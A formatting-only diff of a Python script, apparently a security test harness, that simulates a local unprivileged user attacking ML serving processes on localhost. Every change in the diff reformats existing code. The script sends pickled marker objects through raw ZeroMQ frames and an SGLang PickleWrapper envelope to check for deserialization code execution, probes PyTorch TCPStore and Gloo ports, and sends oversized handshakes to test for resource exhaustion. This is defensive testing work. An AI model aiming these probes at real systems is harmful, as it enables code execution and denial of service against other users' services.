@@ -1,5 +1,8 @@
-"""Attacks by another user of the host. Root starts it, and it becomes that user after its imports, since that user may not be able to read
-Python's files. It reads a job, and prints as JSON what it could do."""
+"""Attacks by another user of the host.
+
+Root starts it, and it becomes that user after its imports, since that user may not be able to read
+Python's files. It reads a job, and prints as JSON what it could do.
+"""
 
 import concurrent.futures.thread
 import contextlib
@@ -11,9 +14,12 @@ import socket
 import struct
 import sys
 
-CONNECT_S, ANSWER_S, LONG_S = 1.0, 1.0, 10.0
+CONNECT_S = 1.0
+ANSWER_S = 1.0
+LONG_S = 10.0
 GREETING = 64  # bytes of ZeroMQ's greeting
-TORCH_STORE = struct.pack("<BI", 0, 0x3C85F7CE) + struct.pack("<B", 7)  # TCPStore: validate, magic; ask for the number of keys
+# TCPStore: validate, magic; ask for the number of keys
+TORCH_STORE = struct.pack("<BI", 0, 0x3C85F7CE) + struct.pack("<B", 7)
 GLOO = struct.pack("<q", 0)  # says: I am connection 0
 STREAMED = bytes(64 << 20)
 
@@ -55,8 +61,10 @@ def exchange(port: int, *sent: bytes, answer_s: float = ANSWER_S) -> bytes:
 
 
 def mechanism(port: int) -> str:
-    """The security mechanism of a ZeroMQ socket; empty if it is no such socket. The socket's greeting names it before the client
-    authenticates."""
+    """The security mechanism of a ZeroMQ socket; empty if it is no such socket.
+
+    The socket's greeting names it before the client authenticates.
+    """
     try:
         with socket.create_connection(("127.0.0.1", port), timeout=CONNECT_S) as connection:
             connection.settimeout(LONG_S)
@@ -66,7 +74,11 @@ def mechanism(port: int) -> str:
                 received += more
     except OSError:
         return ""
-    return received[12:32].rstrip(b"\0").decode(errors="replace") if received.startswith(b"\xff") else ""
+    return (
+        received[12:32].rstrip(b"\0").decode(errors="replace")
+        if received.startswith(b"\xff")
+        else ""
+    )
 
 
 def zmq_message(body: bytes) -> bytes:
@@ -74,10 +86,20 @@ def zmq_message(body: bytes) -> bytes:
 
 
 def try_port(port: int, marker: str) -> dict:
-    ready = command(b"READY", b"\x0bSocket-Type" + struct.pack(">I", 4) + b"PUSH" + b"\x08Identity" + struct.pack(">I", 0))
+    ready = command(
+        b"READY",
+        b"\x0bSocket-Type"
+        + struct.pack(">I", 4)
+        + b"PUSH"
+        + b"\x08Identity"
+        + struct.pack(">I", 0),
+    )
     payload = zmq_message(pickle.dumps(Creates(f"{marker}.{port}")))
     pickled = pickle.dumps(Creates(marker))
-    wrapped = zmq_message(b"\x82\xa4type\xadPickleWrapper\xa4data\xc4" + bytes([len(pickled)]) + pickled)  # with SGLANG_USE_PICKLE_IPC off
+    # with SGLANG_USE_PICKLE_IPC off
+    wrapped = zmq_message(
+        b"\x82\xa4type\xadPickleWrapper\xa4data\xc4" + bytes([len(pickled)]) + pickled
+    )
     found = {"port": port, "open": exchange(port) is not None}
     if found["open"]:
         found["zmq"] = mechanism(port)
@@ -85,10 +107,13 @@ def try_port(port: int, marker: str) -> dict:
         exchange(port, pickle.dumps(Creates(f"{marker}.{port}")))
         request = b"GET /server_info HTTP/1.1\r\nHost: localhost\r\n\r\n"
         http = exchange(port, request, answer_s=ANSWER_S if found["zmq"] else LONG_S)
-        found["http"] = http.split(b" ")[1].decode(errors="replace") if http.startswith(b"HTTP/") else ""
+        found["http"] = (
+            http.split(b" ")[1].decode(errors="replace") if http.startswith(b"HTTP/") else ""
+        )
         found["store"] = exchange(port, TORCH_STORE).hex()
         exchange(port, GLOO, os.urandom(1 << 16))
-        exchange(port, greeting(b"CURVE"), b"\x06" + struct.pack(">Q", 1 << 33), STREAMED)  # the beginning of a handshake of 8 GiB
+        # the beginning of a handshake of 8 GiB
+        exchange(port, greeting(b"CURVE"), b"\x06" + struct.pack(">Q", 1 << 33), STREAMED)
     return found
 
 
